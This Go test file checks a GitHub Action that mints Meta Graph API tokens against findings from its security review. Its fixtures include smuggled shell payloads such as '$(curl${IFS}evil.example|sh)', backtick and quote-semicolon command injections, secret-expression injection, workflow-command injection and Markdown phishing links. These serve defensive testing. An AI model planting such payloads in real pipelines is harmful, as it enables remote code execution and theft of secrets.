package main

import (
	"net/http"
	"net/http/httptest"
	"regexp"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/metamint/metamint/pkg/mint/minttest"
)

// The tests of this file each inject one finding of the action's security
// review: Graph text that is a legacy workflow command or Markdown, a
// tampered GITHUB_STATE, action.yml's defaults as the runner passes them,
// a permanent token where an expiring one was asked for.

// answerDebugToken has the minted token's debug_token answer body: the
// calling token's check, which runs first, gets an error instead.
func answerDebugToken(w *world, body string) {
	w.srv.FailNext(minttest.EndpointDebugToken, minttest.Fault{})
	w.srv.FailNext(minttest.EndpointDebugToken, minttest.Fault{Status: http.StatusOK, Body: []byte(body)})
}

// debugBody is a valid debug_token answer for w's system user and app with
// the given scopes, application name and expiry.
func debugBody(w *world, scopes []string, application string, expiresAt int64) string {
	q := make([]string, len(scopes))
	for i, s := range scopes {
		q[i] = jsonQuote(s)
	}
	return `{"data":{"app_id":"` + w.appID + `","type":"SYSTEM_USER","application":` + jsonQuote(application) +
		`,"is_valid":true,"expires_at":` + strconv.FormatInt(expiresAt, 10) + `,"scopes":[` + strings.Join(q, ",") + `],"user_id":"` + w.systemUserID + `"}}`
}

// legacyCommand matches what the runner's legacy parser takes for a
// command anywhere on a line that does not start with "::".
var legacyCommand = regexp.MustCompile(`##\[`)

// TestLegacyWorkflowCommands: Graph's scopes and application name hold
// "##[...]" commands; no stdout line carries one, on the plain and the
// keyless path. Such scopes are no scope names: the step refuses them
// (TestScopesOutputHoldsScopeNames), and its error carries none either.
func TestLegacyWorkflowCommands(t *testing.T) {
	t.Parallel()
	const pwned = "##[set-output name=pwned;]x"
	for _, keylessPath := range []bool{false, true} {
		name := "plain"
		if keylessPath {
			name = "keyless"
		}
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			k := newKeyless(t)
			env := k.inputs()
			if keylessPath {
				env = k.keylessEnv(k.putJSON(t, "managed", k.managedFields(t, k.storedToken())))
			}
			answerDebugToken(k.world, debugBody(k.world, []string{"ads_read", "business_management", pwned, "##[error]boom"}, "##[warning]app", k.srv.Now().Add(60*24*time.Hour).Unix()))
			r := runStep(t, k.world, env, nil, withSecretsManager(k.sm))
			if r.err == nil || !strings.Contains(r.err.Error(), "writing output "+outScopes) {
				t.Fatalf("run() = %v; want the scopes refused\nstdout:\n%s", r.err, r.stdout)
			}
			for i, line := range strings.Split(r.stdout, "\n") {
				if !strings.HasPrefix(line, "::") && legacyCommand.MatchString(line) {
					t.Errorf("stdout line %d = %q: Graph text is a legacy workflow command", i+1, line)
				}
			}
			if legacyCommand.MatchString(r.err.Error()) || len(r.outputs) != 0 || r.summary != "" {
				t.Errorf("run() = %q, outputs %v, summary %q; want no Graph text in the error, no output, no summary", r.err, keys(r.outputs), r.summary)
			}
		})
	}
}

// codeSpan matches a Markdown code span of the summary, which renders its
// text literally.
var codeSpan = regexp.MustCompile("`[^`\n]*`")

// TestSummaryMarkdown: the application name debug_token reports is a
// Markdown link and image; the summary shows it as text only: outside code
// spans no Graph text remains. (A scope that is Markdown is no scope name,
// and refused: TestScopesOutputHoldsScopeNames.)
func TestSummaryMarkdown(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	installed(w)
	const app = "[Re-authenticate](https://evil.example/login) ![x](https://evil.example/x.png) <img src=x> *b* https://evil.example"
	answerDebugToken(w, debugBody(w, []string{"ads_read", "business_management"}, app, w.srv.Now().Add(60*24*time.Hour).Unix()))
	r := runStep(t, w, w.inputs(), nil)
	if r.err != nil {
		t.Fatalf("run() = %v; want success", r.err)
	}
	if !strings.Contains(r.summary, "Re-authenticate") {
		t.Fatalf("summary = %q; want the application name", r.summary)
	}
	text := codeSpan.ReplaceAllString(r.summary, "CODE")
	for _, bad := range []string{"](", "![", "<img", "evil.example", "*b*"} {
		if strings.Contains(text, bad) {
			t.Errorf("outside code spans the summary holds %q, which Markdown renders:\n%s", bad, r.summary)
		}
	}
}

// TestPostRefusesProtectedTokens: a tampered GITHUB_STATE names a token
// the step must never revoke: the calling token (plain path), the managed
// secret's stored token or the minting token behind minting_token_ref
// (keyless path). The post step revokes nothing and warns.
func TestPostRefusesProtectedTokens(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		// setup returns the main step's environment and the protected
		// token the state is changed to.
		setup func(t *testing.T, k *keyless) (map[string]string, string)
	}{
		{"plain: calling token", func(t *testing.T, k *keyless) (map[string]string, string) {
			return k.inputs(), k.adminToken
		}},
		{"keyless: stored token", func(t *testing.T, k *keyless) (map[string]string, string) {
			stored := k.storedToken()
			return k.keylessEnv(k.putJSON(t, "managed", k.managedFields(t, stored))), stored
		}},
		{"keyless: minting token", func(t *testing.T, k *keyless) (map[string]string, string) {
			f := k.managedFields(t, k.storedToken())
			// The minting token is app-id's own admin token here, so the
			// post step's app secret could revoke it.
			f["minting_token_ref"] = k.put(t, "minting-token", k.adminToken)
			return k.keylessEnv(k.putJSON(t, "managed", f)), k.adminToken
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			k := newKeyless(t)
			env, protected := tt.setup(t, k)
			m := runStep(t, k.world, env, nil, withSecretsManager(k.sm))
			if m.err != nil {
				t.Fatalf("main run() = %v\nstdout:\n%s", m.err, m.stdout)
			}
			penv := postEnv(env, m)
			penv["STATE_"+stateToken] = protected
			revokes := k.count(minttest.EndpointRevoke)
			p := runStep(t, k.world, penv, postArgs, withSecretsManager(k.sm))
			if p.err != nil {
				t.Fatalf("post run() = %v; want nil", p.err)
			}
			if st, _ := k.srv.Token(protected); st.Revoked || k.count(minttest.EndpointRevoke) != revokes {
				t.Errorf("the protected token was revoked, or a revoke was tried\nstdout:\n%s", p.stdout)
			}
			if !strings.Contains(p.stdout, "::warning::") || !strings.Contains(p.stdout, "never revokes") {
				t.Errorf("post stdout = %q; want a warning that the token is never revoked", p.stdout)
			}
			checkNoLeaks(t, k.keylessSecrets(), p)
		})
	}
}

// TestPostCallsOnlyItsInputURL: a tampered GITHUB_STATE names another Graph
// URL; the post step sends the app secret and the token only to the
// graph-api-url of its inputs.
func TestPostCallsOnlyItsInputURL(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	installed(w)
	var stolen atomic.Int64
	evil := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		stolen.Add(1)
		rw.WriteHeader(http.StatusOK)
		_, _ = rw.Write([]byte(`{"success":true}`))
	}))
	t.Cleanup(evil.Close)
	in := w.inputs()
	m := runStep(t, w, in, nil)
	if m.err != nil {
		t.Fatalf("main run() = %v", m.err)
	}
	penv := postEnv(in, m)
	penv["STATE_graph_api_url"] = evil.URL
	penv["STATE_graph_api_version"] = "v1.0"
	p := runStep(t, w, penv, postArgs, withMintOptions())
	if p.err != nil {
		t.Fatalf("post run() = %v", p.err)
	}
	if n := stolen.Load(); n != 0 {
		t.Errorf("the state's Graph URL got %d requests; want none", n)
	}
	if st, _ := w.srv.Token(m.outputs[outToken]); !st.Revoked {
		t.Errorf("the job token is not revoked at the input's Graph URL\nstdout:\n%s", p.stdout)
	}
}

// TestKeylessAllowUnlistedScopes runs the keyless step with action.yml's
// defaults, as the runner passes them: the managed secret's
// allow_unlisted_scopes applies when the input is not given, and an
// explicit "false" overrides it.
func TestKeylessAllowUnlistedScopes(t *testing.T) {
	t.Parallel()
	const scope = "brand_new_scope"
	for _, tt := range []struct {
		name    string
		input   *string
		wantErr string
	}{
		{name: "input not given"},
		{name: "input false", input: ptr("false"), wantErr: `scope "brand_new_scope" is not on the list`},
		{name: "input true", input: ptr("true")},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			k := newKeyless(t, minttest.WithExtraScopes(scope))
			f := k.managedFields(t, k.srv.IssueToken(minttest.TokenSpec{UserID: k.systemUserID, AppID: k.appID, Scopes: keylessScopes}))
			f["scopes"] = []string{"ads_read", scope}
			f["allow_unlisted_scopes"] = true
			env := k.keylessEnv(k.putJSON(t, "managed", f))
			if tt.input != nil {
				env["INPUT_ALLOW-UNLISTED-SCOPES"] = *tt.input
			}
			r := runStep(t, k.world, env, nil, withSecretsManager(k.sm))
			if tt.wantErr != "" {
				if r.err == nil || !strings.Contains(r.err.Error(), tt.wantErr) {
					t.Fatalf("run() = %v; want an error containing %q", r.err, tt.wantErr)
				}
				return
			}
			if r.err != nil {
				t.Fatalf("run() = %v; want success\nstdout:\n%s", r.err, r.stdout)
			}
			if !strings.Contains(r.stdout, "::warning::scope \""+scope+"\" is not on metamint's list") {
				t.Errorf("stdout = %q; want a warning naming the unlisted scope", r.stdout)
			}
		})
	}
}

func ptr[T any](v T) *T { return &v }

// TestPermanentWhenExpiringAsked: expiring-token is true (its default) and
// debug_token answers expires_at 0: the step warns that the token never
// expires and what that means if the post step cannot revoke it.
func TestPermanentWhenExpiringAsked(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	installed(w)
	answerDebugToken(w, debugBody(w, []string{"ads_read", "business_management"}, "Canary App", 0))
	r := runStep(t, w, w.inputs(), nil)
	if r.err != nil {
		t.Fatalf("run() = %v; want success", r.err)
	}
	var warning string
	for _, line := range strings.Split(r.stdout, "\n") {
		if strings.HasPrefix(line, "::warning::") && strings.Contains(line, "never expires") {
			warning = line
		}
	}
	for _, want := range []string{"expiring-token", "post step"} {
		if !strings.Contains(warning, want) {
			t.Errorf("warning = %q; want one about the permanent token naming %q\nstdout:\n%s", warning, want, r.stdout)
		}
	}
}

// TestGraphEchoesStoredToken: with minting_token_ref, Graph answers the
// managed secret's stored token, which is not the calling token, as the
// new token: refused, named as the stored token, neither output nor
// revoked.
func TestGraphEchoesStoredToken(t *testing.T) {
	t.Parallel()
	k := newKeyless(t)
	stored := k.storedToken()
	f := k.managedFields(t, stored)
	f["minting_token_ref"] = k.put(t, "minting-token", k.adminToken)
	env := k.keylessEnv(k.putJSON(t, "managed", f))
	revokes := k.count(minttest.EndpointRevoke)
	k.srv.FailNext(minttest.EndpointAccessTokens, minttest.Fault{Status: 200, Body: []byte(`{"access_token":"` + stored + `"}`)})
	r := runStep(t, k.world, env, nil, withSecretsManager(k.sm))
	if r.err == nil || !strings.Contains(r.err.Error(), "the managed secret's own token (its access_token)") || strings.Contains(r.err.Error(), "calling token") {
		t.Fatalf("run() = %v; want the echoed stored token refused and named as such", r.err)
	}
	if r.output != "" || r.state != "" {
		t.Errorf("outputs %q, state %q; want none", r.output, r.state)
	}
	if st, _ := k.srv.Token(stored); st.Revoked || k.count(minttest.EndpointRevoke) != revokes {
		t.Errorf("the stored token was revoked, or a revoke was tried")
	}
	checkNoLeaks(t, k.keylessSecrets(), r)
}

// TestKeylessMintingTokenExpiring: the minting token behind
// minting_token_ref expires soon. The Lambda does not rotate it, so the
// warning names minting_token_ref and never blames the Lambda.
func TestKeylessMintingTokenExpiring(t *testing.T) {
	t.Parallel()
	k := newKeyless(t)
	f := k.managedFields(t, k.storedToken())
	minting := k.srv.IssueToken(minttest.TokenSpec{UserID: "300000000000003", AppID: k.appID, Scopes: []string{"business_management"}, ExpiresAt: k.srv.Now().Add(5 * 24 * time.Hour)})
	f["minting_token_ref"] = k.put(t, "minting-token", minting)
	id := k.putJSON(t, "managed", f)
	r := runStep(t, k.world, k.keylessEnv(id), nil, withSecretsManager(k.sm), withClock(k.srv.Now))
	if r.err != nil {
		t.Fatalf("run() = %v; want success", r.err)
	}
	if strings.Contains(r.stdout, "the Lambda has not rotated it") || !strings.Contains(r.stdout, "minting_token_ref") {
		t.Errorf("stdout = %q; want a warning naming minting_token_ref, not blaming the Lambda", r.stdout)
	}
}

// TestScopesOutputHoldsScopeNames: a later step may put an output in a
// script (run: echo "${{ steps.meta.outputs.scopes }}"), where the runner
// substitutes it before the shell reads it. A scope debug_token grants
// that is not a scope name (lowercase letters, digits and underscores) is
// refused, as a request's scope is: no output is written and the token is
// revoked. A well-formed scope missing from metamint's list is kept.
func TestScopesOutputHoldsScopeNames(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name  string
		scope string
		ok    bool
	}{
		{name: "command substitution", scope: "ads_read$(curl${IFS}evil.example|sh)"},
		{name: "backticks", scope: "`id`"},
		{name: "quote and semicolon", scope: `x";id;"`},
		{name: "expression", scope: "${{ secrets.META_APP_SECRET }}"},
		{name: "upper case", scope: "ADS_READ"},
		{name: "unlisted but a scope name", scope: "some_new_scope2", ok: true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			installed(w)
			answerDebugToken(w, debugBody(w, []string{"ads_read", "business_management", tt.scope}, "Canary App", w.srv.Now().Add(60*24*time.Hour).Unix()))
			r := runStep(t, w, w.inputs(), nil)
			if tt.ok {
				if r.err != nil {
					t.Fatalf("run() = %v; want success", r.err)
				}
				if got, want := r.outputs[outScopes], "ads_read,business_management,"+tt.scope; got != want {
					t.Errorf("output scopes = %q; want %q", got, want)
				}
				return
			}
			if r.err == nil || !strings.Contains(r.err.Error(), "writing output scopes") {
				t.Fatalf("run() = %v; want output scopes refused\noutputs: %q", r.err, r.outputs)
			}
			if strings.Contains(r.err.Error(), tt.scope) {
				t.Errorf("run() = %q; want Graph's text not quoted", r.err)
			}
			discarded(t, w, r)
			checkNoLeaks(t, w.secrets(), r)
		})
	}
}

// TestTokenOutputIsABearerToken: a later step may put the token output in
// a script (curl -H "Authorization: Bearer ${{ steps.meta.outputs.token }}"),
// where the runner substitutes it before the shell reads it. A new token
// that does not have a Bearer token's syntax (RFC 6750 b64token: letters,
// digits, "-._~+/", then "=") is refused: no output is written and the
// token is revoked.
func TestTokenOutputIsABearerToken(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name  string
		token string
		ok    bool
	}{
		{name: "command substitution", token: "EAA$(curl${IFS}evil.example)"},
		{name: "backticks", token: "EAA`id`"},
		{name: "quote and semicolon", token: `EAA";id;"`},
		{name: "single quote", token: "EAA'x"},
		{name: "expression", token: "EAA${{secrets.X}}"},
		{name: "equals inside", token: "EAA=x"},
		{name: "b64token", token: "EAAx-y.z_~+/==", ok: true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			installed(w)
			w.srv.MintNextAs(tt.token)
			r := runStep(t, w, w.inputs(), nil)
			if tt.ok {
				if r.err != nil {
					t.Fatalf("run() = %v; want success", r.err)
				}
				if got := r.outputs[outToken]; got != tt.token {
					t.Errorf("output token = %q; want %q", got, tt.token)
				}
				return
			}
			if r.err == nil || !strings.Contains(r.err.Error(), "is not a Bearer token") {
				t.Fatalf("run() = %v; want output token refused\noutputs: %q", r.err, r.outputs)
			}
			discarded(t, w, r)
			checkNoLeaks(t, w.secrets(), r)
		})
	}
}
